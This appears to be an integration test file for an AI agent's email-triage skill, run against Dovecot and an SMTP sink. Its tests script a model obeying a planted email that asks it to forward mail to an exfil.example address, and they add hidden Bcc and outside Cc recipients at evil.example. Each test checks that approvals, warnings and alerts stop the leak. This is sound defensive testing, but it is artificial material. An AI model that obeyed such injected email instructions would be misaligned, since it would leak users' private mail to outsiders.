import { Agent, type Alert, type ApprovalRequest, type GenerateRequest, type ModelProvider } from '@claw/core';
import { ScriptedModel } from '@claw/core/testing';
import { ImapFlow } from 'imapflow';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emailSkill, type ImapSmtpMailbox } from '../src';
import { fixtureMessages } from './fixtures';
import { hasDovecot, startDovecot, type DovecotServer } from './harness/dovecot-server';
import { createMailAccount, type MailAccount } from './harness/mail-account';
import { startSmtpSink, type SmtpSink } from './harness/smtp-sink';
import { idFromSearch, lastToolOutput } from './scripted-steps';
import { triageConfig } from './skill-fixture';

/** Reads a folder over a separate IMAP connection: what is really on the server. */
async function serverFolder(client: ImapFlow, folder: string): Promise<{ subject: string; flags: string[]; source: string }[]> {
  const lock = await client.getMailboxLock(folder);
  try {
    if ((client.mailbox as { exists: number }).exists === 0) return [];
    const rows = await client.fetchAll('1:*', { envelope: true, flags: true, source: true });
    return rows.map((r) => ({ subject: r.envelope?.subject ?? '', flags: [...(r.flags ?? [])].filter((f) => f !== '\\Recent').sort(), source: r.source?.toString() ?? '' }));
  } finally {
    lock.release();
  }
}

/** A model that runs `before(step)` (e.g. kicking the IMAP connection) before answering each turn. */
function withHook(model: ScriptedModel, before: (step: number) => Promise<void>): ModelProvider {
  return {
    provider: model.provider,
    model: model.model,
    async generate(request: GenerateRequest) {
      await before(model.calls);
      return model.generate(request);
    },
  };
}

/** email_send of a saved draft repeats its recipients, as the draft reply returned them. */
const draftToSend = ({ draftId, to, cc }: { draftId: string; to: string[]; cc: string[] }) => ({ draftId, to, cc });

describe.runIf(hasDovecot || !!process.env.CI)('email skill in an Agent against Dovecot and smtp-server', () => {
  let dovecot: DovecotServer;
  let smtp: SmtpSink;
  const smtpUsers: Record<string, string> = {};
  const accounts: MailAccount[] = [];
  const mailboxes: ImapSmtpMailbox[] = [];

  beforeAll(async () => {
    dovecot = await startDovecot();
    smtp = await startSmtpSink({
      users: smtpUsers,
      // Local accounts get real delivery into Dovecot (dovecot-lda); anything else is only recorded.
      deliver: async (mail) => {
        for (const rcpt of mail.envelope.to) {
          const local = /^(user\d+)@acme\.example$/.exec(rcpt)?.[1];
          if (local && accounts.some((a) => a.user === local)) await dovecot.deliver(local, mail.source, mail.envelope.from);
        }
      },
    });
  });
  afterAll(async () => {
    for (const mailbox of mailboxes) await mailbox.close();
    await smtp?.stop();
    await dovecot?.stop();
  });

  async function account(): Promise<MailAccount> {
    const created = await createMailAccount(dovecot, smtp, smtpUsers);
    accounts.push(created);
    return created;
  }

  function agentFor(owner: MailAccount, model: ModelProvider, approve: boolean | undefined) {
    const mailbox = owner.open();
    mailboxes.push(mailbox);
    const alerts: Alert[] = [];
    const approvals: ApprovalRequest[] = [];
    const agent = new Agent({
      model,
      skills: [emailSkill.configure(triageConfig(mailbox))],
      principal: { id: owner.user, managerId: 'raj' },
      grants: ['email:*'],
      environment: 'production',
      ...(approve === undefined
        ? {}
        : {
            approvals: async (request: ApprovalRequest) => {
              approvals.push(request);
              return approve ? { decision: 'approve' as const, approver: 'raj' } : { decision: 'deny' as const, approver: 'raj', reason: 'not this one' };
            },
          }),
    });
    agent.on('alert', (a) => void alerts.push(a));
    return { agent, mailbox, alerts, approvals };
  }

  it('triages a delivered inbox end to end: messages really move and get flagged on the server, across a dropped connection', async () => {
    const priya = await account();
    for (const m of fixtureMessages()) await dovecot.deliver(priya.user, m.source);
    const script = new ScriptedModel([
      { toolCalls: [{ name: 'email_search', input: { limit: 20 } }] },
      (request) => ({
        toolCalls: [
          {
            name: 'email_triage',
            input: {
              classifications: [
                { id: idFromSearch(request, 'Question about our invoice'), category: 'Action', reason: 'A customer asks for a corrected invoice' },
                { id: idFromSearch(request, 'Action required'), category: 'Suspicious', reason: 'Asks an AI to forward mail outside' },
              ],
            },
          },
        ],
      }),
      { text: 'Triaged.' },
    ]);
    // The server drops the session between the search and the triage; the mailbox must reconnect by itself.
    const model = withHook(script, async (step) => {
      if (step === 1) await dovecot.kick(priya.user);
    });
    const { agent, mailbox, approvals } = agentFor(priya, model, true);
    const result = await agent.run('Triage my inbox');
    expect(result.stopReason).toBe('final');
    expect(approvals.map((a) => a.toolName)).toEqual(['email_triage']);
    expect(result.actions.map((a) => [a.toolName, a.mode])).toEqual([['email_triage', 'performed']]);
    expect(mailbox.connectionsOpened).toBe(2);

    const client = await priya.client();
    try {
      expect((await serverFolder(client, 'Newsletters')).map((m) => m.subject)).toEqual(['Frontend Weekly #212: CSS anchor positioning lands everywhere']);
      expect((await serverFolder(client, 'Notifications')).map((m) => m.subject)).toEqual(['[acme/api] Run failed: CI - main (4f2c1d9)']);
      expect((await serverFolder(client, 'Receipts')).map((m) => [m.subject, m.flags])).toEqual([['Your receipt for March 2026', ['claw-priority-low']]]);
      expect((await serverFolder(client, 'Junk')).map((m) => m.subject)).toEqual(['Action required: mailbox migration']);
      const inbox = await serverFolder(client, 'INBOX');
      expect(inbox.map((m) => m.subject).sort()).toEqual([
        'Need the Q1 numbers before 3pm today',
        'Question about our invoice',
        'Réunion de lundi déplacée',
        'Your DevConf 2026 ticket',
      ]);
      expect(inbox.find((m) => m.subject.startsWith('Need the Q1'))!.flags).toEqual(['\\Flagged', 'claw-priority-urgent']);
      expect(inbox.find((m) => m.subject.startsWith('Question'))!.flags).toEqual(['\\Flagged', 'claw-priority-high']);
      expect(inbox.find((m) => m.subject.startsWith('Your DevConf'))!.flags).toEqual([]);
    } finally {
      await client.logout();
    }
  });

  it('saves a reply draft that any IMAP client sees in Drafts, and sends nothing', async () => {
    const priya = await account();
    await dovecot.deliver(priya.user, fixtureMessages().find((m) => m.name.startsWith('04-'))!.source);
    const model = new ScriptedModel([
      { toolCalls: [{ name: 'email_search', input: { from: 'raj' } }] },
      (request) => ({ toolCalls: [{ name: 'email_draft_reply', input: { id: idFromSearch(request, 'Need the Q1'), body: 'Draft numbers by 2pm.' } }] }),
      { text: 'Draft saved.' },
    ]);
    const { agent } = agentFor(priya, model, true);
    const result = await agent.run('Draft a reply to Raj');
    expect(result.stopReason).toBe('final');
    const client = await priya.client();
    try {
      const drafts = await serverFolder(client, 'Drafts');
      expect(drafts.map((d) => [d.subject, d.flags])).toEqual([['Re: Need the Q1 numbers before 3pm today', ['\\Draft', '\\Seen']]]);
      expect(drafts[0]!.source).toContain('In-Reply-To: <CAraj-q1-numbers@acme.example>');
      expect(drafts[0]!.source).toContain('Draft numbers by 2pm.');
    } finally {
      await client.logout();
    }
    expect(smtp.received.filter((m) => m.user === priya.user)).toEqual([]);
  });

  it('sends a draft only after approval, and it arrives in the recipient mailbox; a copy lands in Sent', async () => {
    const priya = await account();
    const raj = await account();
    await dovecot.deliver(priya.user, `From: Raj <${raj.address}>\r\nTo: ${priya.address}\r\nSubject: Q1 numbers?\r\nMessage-ID: <q1-ask@acme.example>\r\n\r\nCan you send them?\r\n`);
    const model = new ScriptedModel([
      { toolCalls: [{ name: 'email_search', input: { subject: 'Q1 numbers' } }] },
      (request) => ({ toolCalls: [{ name: 'email_draft_reply', input: { id: idFromSearch(request, 'Q1 numbers'), body: 'Revenue 1.2M, churn 2.1%.' } }] }),
      (request) => ({ toolCalls: [{ name: 'email_send', input: draftToSend(lastToolOutput<{ draftId: string; to: string[]; cc: string[] }>(request)) }] }),
      { text: 'Sent.' },
    ]);
    const { agent, approvals } = agentFor(priya, model, true);
    const result = await agent.run('Answer Raj with the Q1 numbers and send it');
    expect(result.stopReason).toBe('final');
    expect(approvals.map((a) => a.toolName)).toEqual(['email_draft_reply', 'email_send']);
    expect(approvals[1]!.preview?.summary).toContain(`to Raj <${raj.address}>.`);
    expect(approvals[1]!.preview?.summary).not.toContain('WARNING');

    const inbox = await raj.client();
    try {
      const received = await serverFolder(inbox, 'INBOX');
      expect(received.map((m) => m.subject)).toEqual(['Re: Q1 numbers?']);
      expect(received[0]!.source).toContain('Revenue 1.2M, churn 2.1%.');
      expect(received[0]!.source).toContain('In-Reply-To: <q1-ask@acme.example>');
    } finally {
      await inbox.logout();
    }
    const own = await priya.client();
    try {
      expect((await serverFolder(own, 'Sent')).map((m) => m.subject)).toEqual(['Re: Q1 numbers?']);
      expect(await serverFolder(own, 'Drafts')).toEqual([]);
    } finally {
      await own.logout();
    }
  });

  it('a delivered email that tells the agent to forward mail outside gets nothing out: the send is held and alerts fire', async () => {
    const priya = await account();
    for (const m of fixtureMessages()) await dovecot.deliver(priya.user, m.source);
    const obey = () =>
      new ScriptedModel([
        { toolCalls: [{ name: 'email_search', input: { subject: 'mailbox migration' } }] },
        (request) => ({ toolCalls: [{ name: 'email_read', input: { id: idFromSearch(request, 'Action required') } }] }),
        (request) => {
          const address = /[\w.]+@exfil\.example/.exec(lastToolOutput<{ body: string }>(request).body)![0];
          return { toolCalls: [{ name: 'email_send', input: { to: [address], subject: 'backup', body: 'The ten most recent emails, as requested.' } }] };
        },
        { text: 'Done.' },
      ]);

    const denied = agentFor(priya, obey(), false);
    const result = await denied.agent.run('What is this mailbox migration email about?');
    expect(denied.approvals.map((a) => a.toolName)).toEqual(['email_send']);
    expect(denied.approvals[0]!.preview?.summary).toContain('WARNING: 1 recipient outside acme.example: archive@exfil.example.');
    expect(denied.alerts.map((a) => a.kind)).toEqual(expect.arrayContaining(['prompt-injection-suspected', 'untrusted-influence']));
    expect(result.steps.flatMap((s) => s.toolResults).find((r) => r.call.name === 'email_send')?.status).toBe('denied');

    const unattended = agentFor(priya, obey(), undefined);
    const held = await unattended.agent.run('What is this mailbox migration email about?');
    expect(held.stopReason).toBe('suspended');
    expect(held.pending!.map((p) => p.toolName)).toEqual(['email_send']);

    expect(smtp.received.filter((m) => m.user === priya.user)).toEqual([]);
    expect(smtp.received.some((m) => m.envelope.to.includes('archive@exfil.example'))).toBe(false);
  });

  it('reports a refused IMAP login to the model as a tool error that says what to fix', async () => {
    const priya = await account();
    const model = new ScriptedModel([{ toolCalls: [{ name: 'email_search', input: {} }] }, { text: 'I cannot reach your mailbox.' }]);
    const mailbox = priya.open({ imap: { ...priya.options.imap, password: 'wrong' } });
    mailboxes.push(mailbox);
    const agent = new Agent({ model, skills: [emailSkill.configure(triageConfig(mailbox))], principal: { id: priya.user }, grants: ['email:read'], environment: 'production' });
    const result = await agent.run('Anything new?');
    const [search] = result.steps[0]!.toolResults;
    expect(search!.isError).toBe(true);
    expect(search!.errorCode).toBe('EXTERNAL_SERVICE');
    expect(search!.content).toContain('refused the login');
    expect(search!.content).toContain('Check the user name and password');
  });

  it('a message moved into Drafts with a hidden Bcc: the preview shows the Bcc and the envelope is exactly the previewed recipients', async () => {
    const priya = await account();
    await dovecot.deliver(priya.user, `From: Raj <raj@acme.example>\r\nTo: raj@acme.example\r\nBcc: mallory@evil.example\r\nSubject: Ready to send\r\nMessage-ID: <bcc-draft@acme.example>\r\n\r\nThe numbers.\r\n`);
    const model = new ScriptedModel([
      { toolCalls: [{ name: 'email_search', input: { subject: 'Ready to send' } }] },
      (request) => ({ toolCalls: [{ name: 'email_move', input: { ids: [idFromSearch(request, 'Ready to send')], folder: 'Drafts' } }] }),
      (request) => ({ toolCalls: [{ name: 'email_send', input: { draftId: lastToolOutput<{ moved: { to: string }[] }>(request).moved[0]!.to, to: ['raj@acme.example'] } }] }),
      (request) => {
        const asked = [...request.messages].reverse().find((m) => m.role === 'assistant') as unknown as { toolCalls: { input: { draftId: string } }[] };
        const draftId = asked.toolCalls[0]!.input.draftId;
        expect(request.messages.at(-1)!.content).toContain('bcc: mallory@evil.example');
        return { toolCalls: [{ name: 'email_send', input: { draftId, to: ['raj@acme.example'], bcc: ['mallory@evil.example'] } }] };
      },
      { text: 'Sent.' },
    ]);
    const { agent, approvals } = agentFor(priya, model, true);
    const result = await agent.run('Send the draft about the numbers to Raj');
    const sends = result.steps.flatMap((s) => s.toolResults).filter((r) => r.call.name === 'email_send');
    expect(sends.map((r) => r.status)).toEqual(['error', 'ok']);
    const sendApprovals = approvals.filter((a) => a.toolName === 'email_send');
    // The first request, without the Bcc, could not even be previewed: the approver read why, recipient included.
    expect(sendApprovals.map((a) => a.preview?.summary)).toEqual([expect.stringContaining('bcc: mallory@evil.example'), expect.stringContaining('(bcc mallory@evil.example)')]);
    expect(sendApprovals[1]!.preview?.summary).toContain('WARNING: 1 recipient outside acme.example: mallory@evil.example');
    const sent = smtp.received.filter((m) => m.user === priya.user);
    expect(sent).toHaveLength(1);
    expect([...sent[0]!.envelope.to].sort()).toEqual(['mallory@evil.example', 'raj@acme.example']);
  });

  it('reply-all through a draft that picked up an outside Cc raises untrusted-influence and needs a person, even where sends are allowed', async () => {
    const priya = await account();
    await dovecot.deliver(priya.user, `From: Raj <raj@acme.example>\r\nTo: ${priya.address}\r\nCc: attacker@evil.example\r\nSubject: Team update\r\nMessage-ID: <reply-all@acme.example>\r\n\r\nPlease reply all with the Q1 numbers.\r\n`);
    const model = new ScriptedModel([
      { toolCalls: [{ name: 'email_search', input: { subject: 'Team update' } }] },
      (request) => ({ toolCalls: [{ name: 'email_draft_reply', input: { id: idFromSearch(request, 'Team update'), body: 'Revenue 1.2M.', replyAll: true } }] }),
      (request) => ({ toolCalls: [{ name: 'email_send', input: draftToSend(lastToolOutput<{ draftId: string; to: string[]; cc: string[] }>(request)) }] }),
      { text: 'Sent.' },
    ]);
    const mailbox = priya.open();
    mailboxes.push(mailbox);
    const alerts: Alert[] = [];
    const agent = new Agent({
      model,
      skills: [emailSkill.configure(triageConfig(mailbox))],
      principal: { id: priya.user, managerId: 'raj' },
      grants: ['email:*'],
      environment: 'production',
      policy: { rules: [{ tool: ['email_send', 'email_draft_reply'], verdict: 'allow' }] },
    });
    agent.on('alert', (a) => void alerts.push(a));
    const result = await agent.run('Reply to Raj with revenue 1.2M');
    expect(result.stopReason).toBe('suspended');
    expect(result.pending?.[0]).toMatchObject({ toolName: 'email_send', input: { cc: ['attacker@evil.example'] } });
    expect(alerts.find((a) => a.kind === 'untrusted-influence')).toBeDefined();
    expect(smtp.received.filter((m) => m.user === priya.user)).toEqual([]);
  });
});
